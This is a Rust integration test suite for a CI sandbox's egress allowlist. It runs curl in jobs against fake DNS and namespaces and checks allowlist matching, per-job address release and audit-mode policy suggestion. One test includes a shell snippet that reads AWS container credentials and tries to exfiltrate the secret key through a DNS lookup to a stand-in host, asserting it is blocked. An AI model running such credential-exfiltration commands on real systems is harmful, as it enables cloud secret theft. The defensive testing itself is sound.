//! Egress-controlled jobs end to end (root): the production rule gets a `[rule.egress]`
//! allowlist; the job runs real `curl` inside its sandbox; its only resolver is the agent,
//! which forwards allowed names to a fake upstream resolver (`airlock_tests::fakedns`) and
//! admits the answered addresses before releasing the answer; "the internet" is namespaces
//! the test makes (`airlock_tests::internet`).

use airlock_tests::fakedns::{FakeDns, Zone};
use airlock_tests::internet::Internet;
use airlock_tests::oidc::GithubJob;
use airlock_tests::stack::Stack;
use serde_json::Value;
use std::collections::BTreeMap;

use airlock_tests::kv;

/// Shell lines that fetch each `name=url` with curl and print `name=<status> <body>` or
/// `name=curl<exit code>` (6: could not resolve, 7: could not connect, 28: timeout).
fn curls(targets: &[(&str, String)]) -> String {
    targets
        .iter()
        .map(|(name, url)| {
            format!(
                "out=$(curl -sS -m 5 -o /tmp/body -w '%{{http_code}}' '{url}' 2>/dev/null); rc=$?; \
                 if [ $rc -eq 0 ]; then echo \"{name}=$out $(cat /tmp/body)\"; else echo \"{name}=curl$rc\"; fi\n"
            )
        })
        .collect()
}

/// A probe of other resolvers: a UDP query to `udp_host:53` and a TCP connect to
/// `tcp_host:53`, each printing `ok` or the errno name.
fn other_resolvers(udp_host: &str, tcp_host: &str) -> String {
    format!(
        r#"python3 - <<'EOF'
import errno, socket
def attempt(label, f):
    try:
        f()
        print(label + "=ok")
    except socket.timeout:
        print(label + "=TIMEOUT")
    except OSError as e:
        print(label + "=" + errno.errorcode.get(e.errno, str(e)))
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x01", ("{udp_host}", 53))
    s.recv(512)
def tcp():
    socket.create_connection(("{tcp_host}", 53), timeout=2).close()
def v6():
    socket.create_connection(("2001:db8::1", 80), timeout=2).close()
attempt("dns_udp_elsewhere", udp)
attempt("dns_tcp_elsewhere", tcp)
attempt("ipv6", v6)
print("resolv_conf=" + open("/etc/resolv.conf").read().replace("\n", "|"))
EOF
"#
    )
}

fn records(stack: &Stack, event: &str) -> Vec<Value> {
    stack
        .agent
        .audit_records()
        .into_iter()
        .filter(|r| r["event"] == event)
        .collect()
}

#[test]
fn a_job_reaches_only_what_its_allowlist_names() {
    let web = Internet::new([192, 0, 2]);
    let elsewhere = Internet::new([192, 0, 2]);
    let web_8080 = web.serve(8080, "web");
    web.serve(8081, "web-8081");
    let direct = elsewhere.serve(8080, "elsewhere");
    elsewhere.serve(53, "not a resolver");
    let zone = Zone::default()
        .a("allowed.test", web.addr, 60)
        .a("x.wild.test", web.addr, 60)
        .a("wild.test", web.addr, 60)
        .a("other.test", elsewhere.addr, 60)
        .cname("alias.test", "edge.cdn.test", 60)
        .a("edge.cdn.test", web.addr, 60)
        .cname("evil.test", "allowed.test", 60);
    let dns = FakeDns::start(zone);
    let stack = Stack::sandboxed_production_tables(
        &format!("[egress]\nupstreams = [\"{}\"]\n", dns.addr),
        "[rule.egress]\nallow = [\"allowed.test:8080\", \"*.wild.test:8080\", \"alias.test:8080\"]\n",
    );
    let mut script = curls(&[
        ("allowed", "http://allowed.test:8080/".into()),
        ("upper_case", "http://ALLOWED.Test:8080/".into()),
        ("other_port", "http://allowed.test:8081/".into()),
        ("wildcard", "http://x.wild.test:8080/".into()),
        ("bare_suffix", "http://wild.test:8080/".into()),
        ("not_listed", "http://other.test:8080/".into()),
        ("cname_to_unlisted", "http://alias.test:8080/".into()),
        ("unlisted_cname_to_listed", "http://evil.test:8080/".into()),
        ("direct_ip", format!("http://{direct}/")),
    ]);
    // A job smuggling its secret key out in a name: refused and never forwarded, and the
    // key does not reach the audit log either (the label is recorded as a fingerprint).
    script.push_str(
        r#"key=$(curl -sS -H "Authorization: $(cat "$AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE")" "$AWS_CONTAINER_CREDENTIALS_FULL_URI" | python3 -c 'import json,sys,re; print(re.sub("[^A-Za-z0-9]", "", json.load(sys.stdin)["SecretAccessKey"])[:30])')
echo "smuggled_key=$key"
getent hosts "$key.other.test" >/dev/null; echo "smuggled=$?"
"#,
    );
    script.push_str(&other_resolvers(
        &elsewhere.addr.to_string(),
        &elsewhere.addr.to_string(),
    ));
    let out = stack.run_sh(&GithubJob::production().token(), &script);
    let stdout = String::from_utf8_lossy(&out.stdout);
    let ctx = format!(
        "stdout:\n{stdout}\nstderr:\n{}\nagent log:\n{}",
        String::from_utf8_lossy(&out.stderr),
        stack.agent.log()
    );
    assert!(out.status.success(), "{ctx}");
    let k = kv(&stdout);
    let get = |key: &str| k.get(key).map(String::as_str).unwrap_or("<missing>");
    let from_host = format!("from {}", web.host_addr);
    assert_eq!(get("allowed"), format!("200 web {from_host}"), "{ctx}");
    assert_eq!(get("upper_case"), format!("200 web {from_host}"), "{ctx}");
    assert_eq!(
        get("other_port"),
        "curl7",
        "an allowed name on another port\n{ctx}"
    );
    assert_eq!(get("wildcard"), format!("200 web {from_host}"), "{ctx}");
    assert_eq!(
        get("bare_suffix"),
        "curl6",
        "*.wild.test does not cover wild.test\n{ctx}"
    );
    assert_eq!(get("not_listed"), "curl6", "{ctx}");
    assert_eq!(
        get("cname_to_unlisted"),
        format!("200 web {from_host}"),
        "{ctx}"
    );
    assert_eq!(get("unlisted_cname_to_listed"), "curl6", "{ctx}");
    assert_eq!(get("direct_ip"), "curl7", "{ctx}");
    assert_eq!(get("dns_udp_elsewhere"), "EPERM", "{ctx}");
    assert_eq!(get("dns_tcp_elsewhere"), "EHOSTUNREACH", "{ctx}");
    // IPv6 is off in a job's namespace: it has no IPv6 address to send from.
    assert_eq!(get("ipv6"), "EADDRNOTAVAIL", "{ctx}");
    assert!(
        get("resolv_conf").contains("nameserver 169.254.170.53"),
        "{ctx}"
    );
    let smuggled = get("smuggled_key").to_string();
    assert_eq!(smuggled.len(), 30, "{ctx}");
    assert_eq!(get("smuggled"), "2", "getent: not found\n{ctx}");
    let audit_text = std::fs::read_to_string(stack.agent.audit_path()).unwrap();
    assert!(
        !audit_text.contains(&smuggled),
        "the smuggled key is in the audit log"
    );
    assert!(!audit_text.contains(&smuggled.to_lowercase()));
    assert!(!stack.agent.log().contains(&smuggled.to_lowercase()));
    // Refused names never left the agent.
    for name in ["other.test", "wild.test", "evil.test"] {
        assert_eq!(dns.queries_for(name), 0, "{name} was forwarded\n{ctx}");
    }
    assert!(dns.queries_for("allowed.test") > 0);
    let _ = web_8080;

    // The audit: refused names, and blocked connections with the name they came from.
    let refused: Vec<String> = records(&stack, "egress_dns")
        .iter()
        .filter(|r| r["verdict"] == "refused")
        .map(|r| r["name"].as_str().unwrap_or_default().to_string())
        .collect();
    for name in ["other.test", "wild.test", "evil.test"] {
        assert!(refused.iter().any(|n| n == name), "{name}: {refused:?}");
    }
    let blocked = records(&stack, "egress_blocked");
    assert!(
        blocked.iter().any(|r| r["dst"] == web.addr.to_string()
            && r["port"] == 8081
            && r["proto"] == "tcp"
            && r["name"] == "allowed.test"),
        "{blocked:?}"
    );
    assert!(
        blocked
            .iter()
            .any(|r| r["dst"] == elsewhere.addr.to_string()
                && r["port"] == 8080
                && r["name"].is_null()),
        "{blocked:?}"
    );
    let started = records(&stack, "job_started");
    assert_eq!(
        started[0]["sandbox"]["network"], "egress-block",
        "{started:?}"
    );
    for r in records(&stack, "job_wiped") {
        assert_eq!(r["leftovers"], serde_json::json!([]), "{r}");
    }
}

#[test]
fn an_address_opens_only_when_its_answer_is_released_and_only_for_that_job() {
    let web = Internet::new([192, 0, 2]);
    let web_addr = web.serve(8080, "web");
    let staging_host = Internet::new([192, 0, 2]);
    staging_host.serve(8080, "staging");
    // slow.test's answer is held 1.5 s upstream (the agent waits up to 2 s).
    let zone = Zone::default()
        .a("slow.test", web.addr, 60)
        .delay("slow.test", std::time::Duration::from_millis(1500))
        .a("staging.test", staging_host.addr, 60);
    let dns = FakeDns::start(zone);
    let stack = Stack::sandboxed_rule_tables(
        &format!("[egress]\nupstreams = [\"{}\"]\n", dns.addr),
        &[
            (
                "10-production.toml",
                "[rule.egress]\nallow = [\"slow.test:8080\"]\n",
            ),
            (
                "20-staging.toml",
                "[rule.egress]\nallow = [\"staging.test:8080\"]\n",
            ),
        ],
    );
    let direct = format!("http://{web_addr}/");
    let try_direct = |label: &str| {
        format!(
            "out=$(curl -sS -m 3 -o /tmp/body -w '%{{http_code}}' '{direct}' 2>/dev/null); rc=$?; \
             if [ $rc -eq 0 ]; then echo \"{label}=$out\"; else echo \"{label}=curl$rc\"; fi\n"
        )
    };
    // Production: the address is refused before the name is resolved and while its answer
    // is still held upstream; it opens once the answer reached the job. Then it stays
    // alive a while, so that staging runs beside it.
    let prod_script = format!(
        "{}getent hosts slow.test > /tmp/resolved &\nsleep 0.5\n{}wait\necho \"resolved=$(cut -d' ' -f1 /tmp/resolved)\"\n{}sleep 5\n",
        try_direct("before"),
        try_direct("during"),
        try_direct("after"),
    );
    // Staging, started while production holds the address open: still refused for it.
    let staging_script = format!(
        "{}{}",
        try_direct("other_jobs_address"),
        curls(&[("own_name", "http://staging.test:8080/".into())])
    );
    let (prod, staging) = std::thread::scope(|s| {
        let prod = s.spawn(|| stack.run_sh(&GithubJob::production().token(), &prod_script));
        std::thread::sleep(std::time::Duration::from_secs(4));
        let staging = stack.run_sh(&GithubJob::staging().token(), &staging_script);
        (prod.join().unwrap(), staging)
    });
    let out = |o: &std::process::Output| {
        format!(
            "stdout:\n{}\nstderr:\n{}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        )
    };
    let ctx = format!(
        "production {}\nstaging {}\nagent log:\n{}",
        out(&prod),
        out(&staging),
        stack.agent.log()
    );
    assert!(prod.status.success() && staging.status.success(), "{ctx}");
    let p = kv(&String::from_utf8_lossy(&prod.stdout));
    let st = kv(&String::from_utf8_lossy(&staging.stdout));
    let get = |m: &BTreeMap<String, String>, k: &str| m.get(k).cloned().unwrap_or_default();
    assert_eq!(get(&p, "before"), "curl7", "{ctx}");
    assert_eq!(
        get(&p, "during"),
        "curl7",
        "the answer was not released yet\n{ctx}"
    );
    assert_eq!(get(&p, "resolved"), web.addr.to_string(), "{ctx}");
    assert_eq!(get(&p, "after"), "200", "{ctx}");
    assert_eq!(get(&st, "other_jobs_address"), "curl7", "{ctx}");
    assert_eq!(
        get(&st, "own_name"),
        format!("200 staging from {}", staging_host.host_addr),
        "{ctx}"
    );
}

#[test]
fn audit_mode_records_what_a_job_does_and_suggest_turns_it_into_a_block_list() {
    let api = Internet::new([192, 0, 2]);
    api.serve(8080, "api");
    let cdn = Internet::new([192, 0, 2]);
    cdn.serve(8081, "cdn");
    let zone = Zone::default()
        .a("api.test", api.addr, 60)
        .a("assets.cdn.test", cdn.addr, 60)
        .a("other.test", cdn.addr, 60);
    let dns = FakeDns::start(zone);
    let upstream = format!("[egress]\nupstreams = [\"{}\"]\n", dns.addr);
    let targets = [
        ("api", "http://api.test:8080/".to_string()),
        ("cdn", "http://assets.cdn.test:8081/".to_string()),
        ("metadata_range", "http://169.254.1.1/".to_string()),
        ("private", "http://10.1.2.3/".to_string()),
    ];
    let script = curls(&targets);

    // 1. Audit mode: everything but the blocked ranges works, and is recorded.
    let audit_stack =
        Stack::sandboxed_production_tables(&upstream, "[rule.egress]\nmode = \"audit\"\n");
    let out = audit_stack.run_sh(&GithubJob::production().token(), &script);
    let stdout = String::from_utf8_lossy(&out.stdout);
    let ctx = format!("stdout:\n{stdout}\nagent log:\n{}", audit_stack.agent.log());
    assert!(out.status.success(), "{ctx}");
    let k = kv(&stdout);
    assert_eq!(k["api"], format!("200 api from {}", api.host_addr), "{ctx}");
    assert_eq!(k["cdn"], format!("200 cdn from {}", cdn.host_addr), "{ctx}");
    // The metadata service and private ranges stay closed in audit mode.
    assert_eq!(k["metadata_range"], "curl7", "{ctx}");
    assert_eq!(k["private"], "curl7", "{ctx}");
    let connects = records(&audit_stack, "egress_connect");
    for (name, port) in [("api.test", 8080), ("assets.cdn.test", 8081)] {
        assert!(
            connects
                .iter()
                .any(|r| r["name"] == name && r["port"] == port),
            "{name}:{port} not in {connects:?}"
        );
    }
    let resolved: Vec<Value> = records(&audit_stack, "egress_dns");
    assert!(
        resolved
            .iter()
            .any(|r| r["name"] == "api.test" && r["verdict"] == "audit"),
        "{resolved:?}"
    );
    assert_eq!(
        records(&audit_stack, "job_started")[0]["sandbox"]["network"],
        "egress-audit"
    );

    // 2. `airlock policy suggest` turns the audit into an allowlist.
    let audit_path = audit_stack.agent.audit_path();
    let suggest = audit_stack.agent.cli(&[
        "policy",
        "suggest",
        "--audit",
        audit_path.to_str().unwrap(),
        "--repository",
        "acme/web",
    ]);
    let section = String::from_utf8_lossy(&suggest.stdout).into_owned();
    assert!(
        suggest.status.success(),
        "suggest: {}\n{section}\n{}",
        suggest.status,
        String::from_utf8_lossy(&suggest.stderr)
    );
    assert!(section.contains("\"api.test:8080\""), "{section}");
    assert!(section.contains("\"assets.cdn.test:8081\""), "{section}");
    drop(audit_stack);

    // 3. Pasted into the rule, in block mode, the same job passes; a name it did not use
    // stays closed.
    let block_stack = Stack::sandboxed_production_tables(&upstream, &section);
    let mut with_other = targets.to_vec();
    with_other.push(("other", "http://other.test:8081/".to_string()));
    let out = block_stack.run_sh(&GithubJob::production().token(), &curls(&with_other));
    let stdout = String::from_utf8_lossy(&out.stdout);
    let ctx = format!(
        "section:\n{section}\nstdout:\n{stdout}\nagent log:\n{}",
        block_stack.agent.log()
    );
    assert!(out.status.success(), "{ctx}");
    let k = kv(&stdout);
    assert_eq!(k["api"], format!("200 api from {}", api.host_addr), "{ctx}");
    assert_eq!(k["cdn"], format!("200 cdn from {}", cdn.host_addr), "{ctx}");
    assert_eq!(k["other"], "curl6", "{ctx}");
    assert_eq!(
        records(&block_stack, "job_started")[0]["sandbox"]["network"],
        "egress-block"
    );
}
